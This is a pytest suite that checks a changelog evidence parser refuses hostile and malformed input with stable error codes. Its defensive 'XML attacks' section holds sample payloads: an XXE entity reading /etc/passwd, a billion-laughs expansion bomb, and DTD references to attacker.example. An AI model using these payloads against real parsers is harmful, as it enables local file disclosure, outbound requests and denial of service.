"""Hostile and broken input: every parser refuses it with a stable code, never crashes, never
expands entities, never reads files or the network."""

import json
import random
import re
import time

import pytest

from changelogs.parsers import FORMATS, EvidenceParseError, Summary, parse
from changelogs.parsers._common import MAX_FILE_BYTES, MAX_NESTING
from tests.shared_data import SAMPLES_DIR

XML_FORMATS = ["junit"]
JSON_FORMATS = [
    "playwright_json",
    "ctrf_json",
    "k6_summary",
    "locust_json",
    "sarif",
    "pip_audit",
    "cyclonedx",
    "intoto",
]
TEXT_FORMATS = [name for name in FORMATS if name != "document"]

JUNIT = (SAMPLES_DIR / "tests" / "junit-pytest-xunit2.xml").read_bytes()
SARIF = (SAMPLES_DIR / "security" / "bandit.sarif").read_bytes()
LOCATION = re.compile(r"line \d+, column \d+")


def _refused(fmt: str, data: bytes) -> EvidenceParseError:
    with pytest.raises(EvidenceParseError) as caught:
        parse(fmt, data)
    return caught.value


# --- empty, wrong and truncated files ---------------------------------------------------------


@pytest.mark.parametrize("fmt", [*FORMATS])
def test_an_empty_file_is_refused_by_every_format(fmt: str) -> None:
    error = _refused(fmt, b"")

    assert error.code == "empty_file"
    assert error.message == "The file is empty."


@pytest.mark.parametrize("fmt", TEXT_FORMATS)
def test_a_file_of_white_space_is_empty(fmt: str) -> None:
    assert _refused(fmt, b" \r\n\t \n").code == "empty_file"


def test_json_where_xml_was_expected_is_the_wrong_format() -> None:
    error = _refused("junit", SARIF)

    assert error.code == "wrong_format"
    assert error.message == "Expected an XML JUnit file but this is JSON."


@pytest.mark.parametrize("fmt", JSON_FORMATS)
def test_xml_where_json_was_expected_is_the_wrong_format(fmt: str) -> None:
    error = _refused(fmt, JUNIT)

    # CycloneDX says XML is a format it does not support, the others that it is not JSON.
    assert error.code == ("unsupported_format" if fmt == "cyclonedx" else "wrong_format")


@pytest.mark.parametrize(
    ("fmt", "data"),
    [
        ("junit", b"<html><body>not a report</body></html>"),
        ("junit", b"plain text"),
        ("sarif", (SAMPLES_DIR / "sbom" / "cyclonedx-sbom.cdx.json").read_bytes()),
        ("playwright_json", (SAMPLES_DIR / "tests" / "playwright-ctrf.json").read_bytes()),
        ("ctrf_json", (SAMPLES_DIR / "tests" / "playwright-report.json").read_bytes()),
        ("k6_summary", (SAMPLES_DIR / "perf" / "locust-stats.json").read_bytes()),
        ("locust_json", (SAMPLES_DIR / "perf" / "k6-summary-export.json").read_bytes()),
        ("locust_csv", b"timeStamp,elapsed,label,success\n1,2,a,true\n"),
        ("jmeter_jtl", (SAMPLES_DIR / "perf" / "locust_stats.csv").read_bytes()),
        ("cyclonedx", SARIF),
        ("intoto", (SAMPLES_DIR / "identity" / "dsse-ed25519-public-key.json").read_bytes()),
        ("pip_audit", SARIF),
        ("security_attestation", SARIF),
    ],
)
def test_another_tools_file_is_the_wrong_format(fmt: str, data: bytes) -> None:
    assert _refused(fmt, data).code == "wrong_format"


def test_truncated_xml_is_refused_at_the_point_it_stops() -> None:
    data = (SAMPLES_DIR / "tests" / "junit-node-test.xml").read_bytes()[:900]
    lines = data.split(b"\n")

    error = _refused("junit", data)

    assert error.code == "malformed_xml"
    assert error.location == f"line {len(lines)}, column {len(lines[-1]) + 1}"
    assert error.location == "line 20, column 65"


def test_truncated_json_is_refused_with_its_line_and_column() -> None:
    error = _refused("sarif", b'{"version": "2.1.0", "runs": [')

    assert (error.code, error.location) == ("malformed_json", "line 1, column 31")


@pytest.mark.parametrize("fraction", [0.1, 0.5, 0.9, 0.999])
@pytest.mark.parametrize(
    ("fmt", "path"),
    [
        ("junit", "tests/junit-pytest-xunit2.xml"),
        ("sarif", "security/bandit.sarif"),
        ("playwright_json", "tests/playwright-report.json"),
        ("k6_summary", "perf/k6-handlesummary.json"),
        ("cyclonedx", "sbom/cyclonedx-vex.cdx.json"),
    ],
)
def test_every_truncation_of_a_real_file_is_refused_with_a_location(fmt: str, path: str, fraction: float) -> None:
    data = (SAMPLES_DIR / path).read_bytes()

    error = _refused(fmt, data[: int(len(data) * fraction)])

    assert error.code in ("malformed_xml", "malformed_json")
    assert error.location is not None
    assert LOCATION.fullmatch(error.location)


# --- XML attacks ------------------------------------------------------------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE testsuites [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<testsuites><testsuite name="s"><testcase name="&xxe;"/></testsuite></testsuites>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<testsuites><testsuite name="&lol9;"/></testsuites>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE testsuites SYSTEM "http://attacker.example/junit.dtd">
<testsuites/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE testsuites [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<testsuites/>"""

INTERNAL_ENTITY = b"""<!DOCTYPE testsuites [<!ENTITY ok "PAY-001">]>
<testsuites><testsuite><testcase name="t"><properties>
<property name="journey" value="&ok;"/></properties></testcase></testsuite></testsuites>"""


@pytest.mark.parametrize(
    "data",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY, INTERNAL_ENTITY],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity", "harmless-looking-entity"],
)
def test_dtds_and_entities_are_refused_never_expanded(data: bytes) -> None:
    started = time.monotonic()

    error = _refused("junit", data)

    assert error.code == "forbidden_xml_construct"
    assert "root:" not in error.message
    assert time.monotonic() - started < 1.0


def test_deeply_nested_xml_is_refused() -> None:
    depth = MAX_NESTING + 1
    data = b"<testsuites>" + b"<testsuite>" * depth + b"</testsuite>" * depth + b"</testsuites>"

    assert _refused("junit", data).code == "too_deep"


# --- encodings --------------------------------------------------------------------------------


def test_latin1_bytes_are_not_utf8_and_the_location_says_where() -> None:
    data = "<testsuites>\n<testsuite name='café'/></testsuites>".encode("latin-1")

    error = _refused("junit", data)

    assert (error.code, error.location) == ("not_utf8", "line 2, column 21")


@pytest.mark.parametrize(
    ("fmt", "data"),
    [
        ("sarif", json.dumps({"version": "2.1.0", "runs": []}).encode("utf-16")),
        ("junit", '<?xml version="1.0" encoding="utf-16"?><testsuites/>'.encode("utf-16")),
        ("locust_csv", (SAMPLES_DIR / "perf" / "locust_stats.csv").read_text(encoding="utf-8").encode("utf-32")),
        ("security_attestation", "schema: release-gate/security-attestation/v1\ntester_name: Zoë\n".encode("cp1252")),
    ],
)
def test_text_in_other_encodings_is_refused(fmt: str, data: bytes) -> None:
    assert _refused(fmt, data).code == "not_utf8"


def test_xml_that_declares_another_encoding_is_refused() -> None:
    error = _refused("junit", b'<?xml version="1.0" encoding="ISO-8859-1"?><testsuites/>')

    assert (error.code, error.location) == ("not_utf8", "line 1, column 31")


def test_a_utf8_byte_order_mark_is_accepted() -> None:
    assert parse("junit", b"\xef\xbb\xbf" + JUNIT).format == "junit"
    assert parse("sarif", b"\xef\xbb\xbf" + SARIF).format == "sarif"


# --- JSON shapes and limits -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "data", "code", "location"),
    [
        ("sarif", b"[]", "wrong_format", "$"),
        ("sarif", b'"runs"', "wrong_format", "$"),
        ("sarif", b'{"version": "2.1.0", "runs": {}}', "invalid_structure", "$.runs"),
        ("sarif", b'{"version": "2.1.0", "runs": [[]]}', "invalid_structure", "$.runs[0]"),
        ("playwright_json", b'{"config": {}, "suites": {}}', "wrong_format", "$"),
        (
            "playwright_json",
            b'{"config": {}, "suites": [{"specs": [{"title": 7}]}]}',
            "invalid_structure",
            "$.suites[0].specs[0].title",
        ),
        ("ctrf_json", b'{"results": {"tool": {"name": "x"}, "tests": {}}}', "invalid_structure", "$.results.tests"),
        ("k6_summary", b'{"metrics": []}', "wrong_format", "$"),
        (
            "k6_summary",
            b'{"metrics": {"http_reqs": {"count": "720"}}}',
            "invalid_structure",
            "$.metrics.http_reqs.count",
        ),
        (
            "k6_summary",
            b'{"metrics": {"http_reqs": {"count": true}}}',
            "invalid_structure",
            "$.metrics.http_reqs.count",
        ),
        ("locust_json", b'{"num_requests": 1}', "wrong_format", "$"),
        (
            "locust_json",
            b'[{"num_requests": 1, "num_failures": 0, "response_times": {"fast": 1}}]',
            "invalid_structure",
            "$[0].response_times.fast",
        ),
        ("pip_audit", b'{"dependencies": [{"name": 3}], "fixes": []}', "invalid_structure", "$.dependencies[0].name"),
        ("cyclonedx", b"[]", "wrong_format", "$.bomFormat"),
        ("intoto", b"[]", "wrong_format", "$"),
        ("security_attestation", b"- a\n- b\n", "wrong_format", "$.schema"),
    ],
)
def test_a_wrong_shape_is_refused_with_a_json_path(fmt: str, data: bytes, code: str, location: str) -> None:
    error = _refused(fmt, data)

    assert (error.code, error.location) == (code, location)


@pytest.mark.parametrize("fmt", JSON_FORMATS)
def test_absurdly_nested_json_is_refused_without_blowing_the_stack(fmt: str) -> None:
    data = b"[" * 100_000 + b"]" * 100_000

    assert _refused(fmt, data).code == "too_deep"


def test_json_just_past_the_nesting_limit_is_refused_and_at_the_limit_accepted() -> None:
    def nested(depth: int) -> bytes:
        inner = b"[" * (depth - 1) + b"]" * (depth - 1)
        return b'{"bomFormat": "CycloneDX", "specVersion": "1.6", "x": ' + inner + b"}"

    assert parse("cyclonedx", nested(MAX_NESTING)).format == "cyclonedx"
    assert _refused("cyclonedx", nested(MAX_NESTING + 1)).code == "too_deep"


def test_deeply_nested_yaml_is_refused() -> None:
    data = b"schema: release-gate/security-attestation/v1\nx: " + b"[" * 5_000 + b"]" * 5_000 + b"\n"

    assert _refused("security_attestation", data).code == "too_deep"


@pytest.mark.parametrize(
    "data",
    [
        b'{"version": "2.1.0", "version": "2.0.0", "runs": []}',
        b'{"version": "2.1.0", "runs": [], "x": NaN}',
        b'{"version": "2.1.0", "runs": [], "x": -Infinity}',
        b'{"version": "2.1.0", "runs": [], "x": ' + b"9" * 5_000 + b"}",
    ],
    ids=["duplicate-key", "nan", "infinity", "huge-integer"],
)
def test_json_that_readers_could_disagree_on_is_refused(data: bytes) -> None:
    assert _refused("sarif", data).code == "malformed_json"


def test_more_than_100000_test_cases_are_refused() -> None:
    data = b"<testsuites><testsuite>" + b"<testcase name='t'/>" * 100_001 + b"</testsuite></testsuites>"

    error = _refused("junit", data)

    assert error.code == "too_many_items"


def test_more_than_100000_sarif_results_are_refused() -> None:
    results = ",".join(['{"message": {"text": "x"}}'] * 100_001)
    data = (
        '{"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "x"}}, "results": [' + results + "]}]}"
    ).encode()

    assert _refused("sarif", data).code == "too_many_items"


@pytest.mark.parametrize("fmt", ["junit", "sarif", "document"])
def test_a_file_over_the_size_limit_is_refused_before_any_work(fmt: str) -> None:
    assert _refused(fmt, b" " * (MAX_FILE_BYTES + 1)).code == "too_large"


def test_names_from_the_file_are_bounded_and_stripped_of_control_characters() -> None:
    data = f"<testsuite name='s{'x' * 2000}'><testcase name='a&#9;b{'y' * 2000}' classname='c'/></testsuite>"

    case = parse("junit", data.encode()).to_dict()["cases"][0]

    assert case["name"].startswith("aby")
    assert len(case["name"]) == 500
    assert case["name"].endswith("…")
    assert len(case["suite"]) == 500


def test_declared_totals_are_never_trusted() -> None:
    data = b"<testsuites tests='999999999'><testsuite tests='999999999' failures='0'><testcase name='a'/></testsuite></testsuites>"

    summary = parse("junit", data)

    assert summary.to_dict()["tests"] == 1


def test_an_unknown_format_name_is_refused() -> None:
    error = _refused("excel", b"x")

    assert error.code == "unsupported_format"
    assert error.location is None


def test_the_error_says_what_where_and_why() -> None:
    error = _refused("sarif", b'{"version": "2.1.0", "runs": {}}')

    assert str(error) == "$.runs must be an array, not an object. ($.runs)"
    assert repr(error) == (
        "EvidenceParseError(code='invalid_structure', message='$.runs must be an array, not an object.', "
        "location='$.runs')"
    )


# --- mutation fuzzing of the real files -------------------------------------------------------

FUZZ_SAMPLES = [
    ("junit", "tests/junit-pytest-xunit2.xml"),
    ("junit", "tests/junit-node-test.xml"),
    ("playwright_json", "tests/playwright-report.json"),
    ("ctrf_json", "tests/playwright-ctrf.json"),
    ("k6_summary", "perf/k6-summary-export.json"),
    ("k6_summary", "perf/k6-handlesummary.json"),
    ("locust_csv", "perf/locust_stats.csv"),
    ("locust_json", "perf/locust-stats.json"),
    ("sarif", "security/semgrep.sarif"),
    ("sarif", "security/ruff.sarif"),
    ("pip_audit", "security/pip-audit-unaudited.json"),
    ("cyclonedx", "sbom/cyclonedx-vex.cdx.json"),
    ("intoto", "identity/intoto-slsa-provenance-v1.dsse.json"),
    ("intoto", "identity/intoto-test-result-v0.1.json"),
]


def _parse_or_refuse(fmt: str, data: bytes) -> Summary | EvidenceParseError:
    try:
        return parse(fmt, data)
    except EvidenceParseError as error:
        return error


INTERESTING_BYTES = b'<>{}[]",:&;/\\\x00\xff\n 0-9eE.tfn@'


@pytest.mark.parametrize(("fmt", "path"), FUZZ_SAMPLES)
def test_mutated_real_files_either_parse_or_are_refused_cleanly(fmt: str, path: str) -> None:
    original = (SAMPLES_DIR / path).read_bytes()
    rng = random.Random(f"{fmt}:{path}")  # noqa: S311 - seeded on purpose, so a failure is reproducible
    for _ in range(60):
        data = bytearray(original)
        for _ in range(rng.randint(1, 4)):
            position = rng.randrange(len(data))
            action = rng.random()
            if action < 0.4:
                data[position] = rng.choice(INTERESTING_BYTES)
            elif action < 0.7:
                del data[position : position + rng.randint(1, 40)]
            else:
                data[position:position] = data[rng.randrange(len(data)) :][: rng.randint(1, 40)]
        result = _parse_or_refuse(fmt, bytes(data))
        if isinstance(result, EvidenceParseError):
            assert result.code
            assert result.message
        else:
            assert json.loads(json.dumps(result.to_dict(), allow_nan=False)) == result.to_dict()
